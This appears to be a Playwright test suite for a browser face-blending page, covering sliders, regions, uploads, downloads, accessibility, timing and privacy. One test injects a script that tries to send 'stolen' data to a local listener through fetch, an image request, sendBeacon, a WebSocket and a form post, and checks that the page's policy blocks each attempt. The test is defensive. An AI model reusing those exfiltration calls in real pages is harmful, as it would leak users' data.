"""The page in a real browser: what it shows is what the bundle fuses, and nothing leaves it."""

import base64
import io
import math
import socket
import statistics
import threading
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from browsing import SIZE, Visit
from PIL import Image
from running import wait_for
from torch import Tensor

from pipeline.data import images
from pipeline.data.synth.faces import draw_factors, landmarks, paint
from pipeline.inference.onnx_files import Networks
from pipeline.models import regions

pytestmark = pytest.mark.web
LEVELS = 2


def assert_fused(visit: Visit, lambdas: list[float], mask: Tensor | None = None) -> None:
    """C of the page is `Bundle.fuse` of the same pixels, to two of 255 levels."""
    expected = visit.bundle.fuse(visit.input("A"), visit.input("B"), lambdas, mask)[0]
    difference = (visit.shown("#c") - (expected + 1) * 127.5).abs().max().item()
    assert difference <= LEVELS, difference


def test_it_opens_with_two_painted_faces_and_their_halves(visit: Visit) -> None:
    visit.wait_for_status("Ready.")
    assert_fused(visit, [0.5] * 5)
    for canvas, name in (("#a-drawn", "A"), ("#b-drawn", "B")):
        drawn = visit.bundle.generate(visit.bundle.encode(visit.input(name)))[0]
        assert (visit.shown(canvas) - (drawn + 1) * 127.5).abs().max() <= LEVELS
    assert not visit.complaints


def test_every_slider_moves_its_element(visit: Visit) -> None:
    lambdas = [0.5] * 5
    for element in range(5):
        before = visit.shown("#c")
        lambdas[element] = round(0.1 * element, 2)
        visit.move(element + 1, lambdas[element])
        assert_fused(visit, lambdas)
        assert not torch.equal(visit.shown("#c"), before), element
    assert visit.page.locator("#sliders output").all_inner_texts() == ["mixed", *(f"λ {each:.2f}" for each in lambdas)]
    visit.move(0, 0.25)
    assert_fused(visit, [0.25] * 5)
    assert set(visit.page.locator("#sliders output").all_inner_texts()) == {"λ 0.25"}


def test_presets(visit: Visit) -> None:
    presets: dict[str, list[float]] = {"A": [1] * 5, "Halves": [0.5] * 5, "B": [0] * 5}
    presets["Content of A, style of B"] = [0, 0, 0, 1, 1]
    for name, lambdas in presets.items():
        visit.page.get_by_role("button", name=name, exact=True).click()
        assert_fused(visit, lambdas)


def test_regions(visit: Visit) -> None:
    visit.move(0, 0)
    for name in regions.NAMES:
        visit.page.locator("#regions label", has_text=name).click()
        assert_fused(visit, [0] * 5, regions.mask(name, regions.celeba(SIZE, SIZE), SIZE))
    visit.page.locator("#regions label", has_text="everywhere").click()
    assert_fused(visit, [0] * 5)


def awkward(tmp_path: Path, index: int = 3) -> tuple[Path, list[tuple[float, float]], Image.Image]:
    """A painted face, large, turned by 20 degrees and off-centre; where its eyes are; and the face as it was."""
    face, factors, angle, scale = paint(draw_factors(5, index)), draw_factors(5, index), math.radians(20), 1.7
    points = landmarks(factors)
    cosine, sine = math.cos(angle) / scale, math.sin(angle) / scale
    inverse = (cosine, sine, 89 - 260 * cosine - 300 * sine, -sine, cosine, 109 + 260 * sine - 300 * cosine)
    picture = face.transform((640, 700), Image.Transform.AFFINE, inverse, Image.Resampling.BICUBIC)
    places = []
    for name in ("lefteye", "righteye"):
        x, y = points[name][0] + 0.5 - 89, points[name][1] + 0.5 - 109
        turned = complex(x, y) * scale * complex(math.cos(angle), math.sin(angle))
        places.append((260 + turned.real, 300 + turned.imag))
    path = tmp_path / "awkward.png"
    picture.save(path)
    return path, places, face


def test_a_click_on_each_eye_sets_a_photograph_straight(visit: Visit, tmp_path: Path) -> None:
    path, eyes, _ = awkward(tmp_path)
    place = visit.place("A")
    place.locator("[type=file]").set_input_files(path)
    visit.wait_for_status("A: awkward.png")
    canvas = place.locator("canvas")
    for first, second in (eyes, eyes[::-1]):  # in any order
        place.get_by_text("Reset").click()
        place.get_by_text("Click the eyes").click()
        box = canvas.bounding_box()
        for x, y in (first, second):  # the largest square of 640 x 700 is shown: its 30 upper rows are cut off
            canvas.click(position={"x": x / 640 * box["width"], "y": (y - 30) / 640 * box["height"]})
        visit.wait_for_status("A is set straight")
        spots = [[(each + 0.5) / 178 for each in regions.CELEBA[name]] for name in ("lefteye", "righteye")]
        found = visit.values(f"{spots}.map((spot) => page.places.A.view.pointAt(spot))")
        assert (
            np.abs(np.array(found) - np.array(eyes)).max() < 4
        )  # pixels of a picture shown in less than half its size


def test_dragging_zooming_turning_and_keys(visit: Visit) -> None:
    def view() -> dict[str, Any]:
        return dict(visit.values("(({ centre, zoom, angle }) => ({ centre, zoom, angle }))(page.places.B.view)"))

    canvas = visit.place("B").locator("canvas")
    before, box = view(), canvas.bounding_box()
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    visit.page.mouse.move(x, y)
    visit.page.mouse.down()
    visit.page.mouse.move(x + box["width"] / 4, y, steps=3)
    visit.page.mouse.up()
    dragged = view()
    assert dragged["centre"][0] == pytest.approx(before["centre"][0] - 178 / 4, abs=1)
    visit.page.mouse.move(x, y)
    visit.page.mouse.wheel(0, -500)
    wait_for(lambda: view()["zoom"] > 1.9, seconds=60)
    assert view()["zoom"] == pytest.approx(2)
    visit.place("B").locator(".turn").fill("30")
    assert view()["angle"] == pytest.approx(math.pi / 6)
    visit.place("B").get_by_text("Reset").click()
    assert view() == before
    canvas.focus()
    for key in ("ArrowUp", "+", ".", ".", "ArrowLeft"):
        visit.page.keyboard.press(key)
    moved = view()
    assert moved["zoom"] == pytest.approx(1.02)
    assert moved["angle"] == pytest.approx(math.radians(2))
    assert moved["centre"] != before["centre"]
    assert_fused(visit, [0.5] * 5)


def test_two_fingers_zoom_and_turn(visit: Visit) -> None:
    box = visit.place("A").locator("canvas").bounding_box()
    x, y, reach = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, box["width"] / 8
    session = visit.page.context.new_cdp_session(visit.page)

    def touch(kind: str, *points: tuple[float, float]) -> None:
        given = [{"x": x + across, "y": y + down, "id": index} for index, (across, down) in enumerate(points)]
        session.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": given})

    touch("touchStart", (-reach, 0), (reach, 0))
    for step in range(1, 5):  # to twice the distance, and a quarter turn
        turn, length = math.pi / 2 * step / 4, reach * (1 + step / 4)
        point = (length * math.cos(turn), length * math.sin(turn))
        touch("touchMove", (-point[0], -point[1]), point)
    touch("touchEnd")
    zoom, angle = visit.values("[page.places.A.view.zoom, page.places.A.view.angle]")
    assert zoom == pytest.approx(2, rel=0.05)
    assert angle == pytest.approx(math.pi / 2, abs=0.05)


def test_photographs_come_by_choice_drop_and_paste(visit: Visit, tmp_path: Path) -> None:
    path, _, _ = awkward(tmp_path)
    give = """([selector, kind, content]) => {
        const bytes = Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0)), data = new DataTransfer();
        data.items.add(new File([bytes], "given.png", { type: "image/png" }));
        const event = kind === "drop" ? new DragEvent("drop", { dataTransfer: data, bubbles: true })
            : new ClipboardEvent("paste", { clipboardData: data, bubbles: true });
        document.querySelector(selector).dispatchEvent(event);
    }"""
    expected = images.to_uint8(images.normalise(images.fit(images.read(path), SIZE))).float()
    for place, kind in (("A", "drop"), ("B", "paste")):
        visit.place(place).locator("canvas").focus()
        selector = ".place canvas" if kind == "drop" else "body"
        visit.page.evaluate(give, [selector, kind, base64.b64encode(path.read_bytes()).decode()])
        visit.wait_for_status(f"{place}: given.png")
        got = (visit.input(place)[0] + 1) * 127.5
        assert (got - expected).abs().mean() < 3  # another antialiasing
    assert_fused(visit, [0.5] * 5)


def test_what_is_no_picture_is_refused_in_words(visit: Visit, tmp_path: Path) -> None:
    (tmp_path / "notes.jpg").write_text("no picture")
    before = visit.input("A")
    visit.place("A").locator("[type=file]").set_input_files(tmp_path / "notes.jpg")
    visit.wait_for_status("notes.jpg: this browser cannot read it as a picture")
    assert torch.equal(visit.input("A"), before)


def coarse(levels: Tensor) -> Tensor:
    """Means of 8 x 8 pixels: what compressing and enlarging leave of images as rough as a new network's."""
    return torch.nn.functional.avg_pool2d(levels.float(), 8)


def download(visit: Visit, button: str) -> Image.Image:
    with visit.page.expect_download(timeout=120_000) as started:
        visit.page.click(button)
    return Image.open(io.BytesIO(Path(started.value.path()).read_bytes()))


def test_downloads(visit: Visit) -> None:
    visit.move(0, 0.3)
    visit.settle()
    picture = download(visit, "#save-png")
    assert (picture.format, picture.size) == ("PNG", (SIZE, SIZE))
    assert np.array_equal(np.asarray(picture.convert("RGB")), visit.shown("#c").permute(1, 2, 0).numpy())
    animation: Any = download(visit, "#save-webp")
    assert (animation.format, animation.size, animation.n_frames) == ("WEBP", (SIZE, SIZE), 30)
    for frame, lambda_ in ((0, 1.0), (15, 0.0), (29, 1 - 1 / 15)):
        animation.seek(frame)
        expected = visit.bundle.fuse(visit.input("A"), visit.input("B"), lambda_)[0]
        shown = torch.tensor(np.asarray(animation.convert("RGB"))).permute(2, 0, 1)
        assert (coarse(shown) - coarse((expected + 1) * 127.5)).abs().mean() < 5, frame


@pytest.mark.parametrize(("button", "rows"), [("#draw-strip", 1), ("#draw-grid", 5)])
def test_strip_and_grid(visit: Visit, button: str, rows: int) -> None:
    visit.page.click(button)
    visit.page.wait_for_selector("#save-sheet:not([hidden])", timeout=120_000)
    a, b = visit.input("A"), visit.input("B")
    sheet, side, step = visit.shown("#sheet"), 128, 132

    def tile(row: int, column: int) -> Tensor:
        """Shown twice as large: back to its size."""
        part = sheet[:, 28 + row * step :, 130 + column * step :][:, :side, :side]
        return torch.nn.functional.avg_pool2d(part, 2)

    assert sheet.shape == (3, 28 + (rows + 1) * step, 130 + 6 * step)
    for row in range(rows):
        for column, lambda_ in enumerate((1, 0.8, 0.6, 0.4, 0.2, 0)):
            lambdas = [lambda_] * 5 if rows == 1 else [lambda_ if each == row else 1 for each in range(5)]
            expected = (visit.bundle.fuse(a, b, lambdas)[0] + 1) * 127.5
            assert (coarse(tile(row + 1, column)) - coarse(expected)).abs().max() < 8, (row, column)
    assert (coarse(tile(0, 0)) - coarse((a[0] + 1) * 127.5)).abs().max() < 8
    assert download(visit, "#save-sheet").size == (sheet.shape[2], sheet.shape[1])


def test_nothing_leaves_the_browser(visit: Visit, tmp_path: Path) -> None:
    """All of it is used; every request reads a file of the page, and each network is read once."""
    path, _, _ = awkward(tmp_path)
    visit.place("A").locator("[type=file]").set_input_files(path)
    visit.wait_for_status("A: awkward.png")
    visit.settle()
    at_start = len(visit.requests)
    visit.move(1, 0.2)
    visit.settle()
    for name in ("mouth", "left", "everywhere"):
        visit.page.locator("#regions label", has_text=name).click()
        visit.settle()
    visit.page.click("#draw-strip")
    visit.page.wait_for_selector("#save-sheet:not([hidden])", timeout=120_000)
    download(visit, "#save-png")
    download(visit, "#save-webp")
    later = [each.url for each in visit.requests[at_start:] if not each.url.startswith("blob:")]
    assert later == [f"{visit.address}/region.onnx"]
    assert all(each.url.startswith((visit.address, f"blob:{visit.address}", "data:")) for each in visit.requests)
    assert all(each.method == "GET" and each.post_data is None for each in visit.requests)
    names = [each.url.rsplit("/", 1)[1] for each in visit.requests]
    assert names.count("encoder.onnx") == names.count("generator.onnx") == 1
    assert not visit.complaints
    cookies, kept = visit.page.context.cookies(), visit.page.evaluate("localStorage.length + sessionStorage.length")
    assert (cookies, kept) == ([], 0)


def test_the_policy_holds_even_for_a_script_that_means_harm(visit: Visit) -> None:
    """Another server of this machine listens: no byte of a fetch, a picture, a form or a socket reaches it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(3)
        reached: list[bytes] = []

        def listen() -> None:  # Chromium opens a connection for a form before it looks at the policy
            while True:
                try:
                    connection, _ = listener.accept()
                    connection.settimeout(3)
                    reached.append(connection.recv(1000))
                except TimeoutError:
                    return

        thread = threading.Thread(target=listen)
        thread.start()
        other = f"127.0.0.1:{listener.getsockname()[1]}"
        visit.page.evaluate(
            f"""async () => {{
                await fetch("http://{other}/?stolen", {{ mode: "no-cors" }}).catch(() => 0);
                new Image().src = "http://{other}/?stolen";
                navigator.sendBeacon("http://{other}/", "stolen");
                try {{ new WebSocket("ws://{other}/"); }} catch {{}}
                const form = document.createElement("form");
                Object.assign(form, {{ method: "post", action: "http://{other}/" }});
                document.body.append(form);
                form.submit();
            }}"""
        )
        thread.join()
    assert not any(reached)


def test_narrow_and_wide_light_and_dark(visit: Visit) -> None:
    for width, scheme in ((390, "light"), (390, "dark"), (800, "light"), (1280, "dark")):
        visit.page.set_viewport_size({"width": width, "height": 844})
        visit.page.emulate_media(color_scheme=scheme)
        assert visit.page.evaluate("document.documentElement.scrollWidth") <= width
        background = visit.page.evaluate("getComputedStyle(document.body).backgroundColor")
        brightness = statistics.mean(map(int, background.removeprefix("rgb(").removesuffix(")").split(",")))
        assert (brightness > 128) == (scheme == "light")


def test_everything_has_a_name_and_the_keyboard_is_enough(visit: Visit) -> None:
    for role in ("button", "slider", "radio", "img", "application"):
        found = visit.page.get_by_role(role).all()
        assert found, role
        snapshots = [each.aria_snapshot() for each in found]
        assert all('"' in snapshot for snapshot in snapshots), snapshots
    slider = visit.page.get_by_label("5 layout")
    slider.focus()
    visit.page.keyboard.press("ArrowRight")
    assert slider.get_attribute("aria-valuetext") == "λ 0.49"
    visit.page.get_by_role("radio", name="everywhere").focus()
    visit.page.keyboard.press("ArrowRight")
    assert visit.page.get_by_role("radio", name="eyes").is_checked()
    assert_fused(visit, [0.5] * 4 + [0.49], regions.mask("eyes", regions.celeba(SIZE, SIZE), SIZE))


def test_how_long_a_slider_takes(visit: Visit, page_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """From its move to the picture, beside onnxruntime outside of the browser in the same run."""
    shown = []
    for step in range(20):
        visit.move(0, step / 20)
        visit.settle()
        shown.append(float(str(visit.page.inner_text("#time")).split()[-2]))
    networks, z = Networks(page_folder), visit.bundle.encode(visit.input("A")).numpy()
    inputs = {"z_a": z, "z_b": z, "lambdas": np.ones((1, 5), np.float32)}
    native = []
    for _ in range(20):
        begun = time.perf_counter()
        networks.generator.run(None, inputs)
        native.append(1000 * (time.perf_counter() - begun))
    page, own = statistics.median(shown), statistics.median(native)
    with capsys.disabled():
        print(f"\nslider to picture: {page:.0f} ms; onnxruntime alone: {own:.2f} ms; ratio {page / own:.1f}")
    assert page < 1000
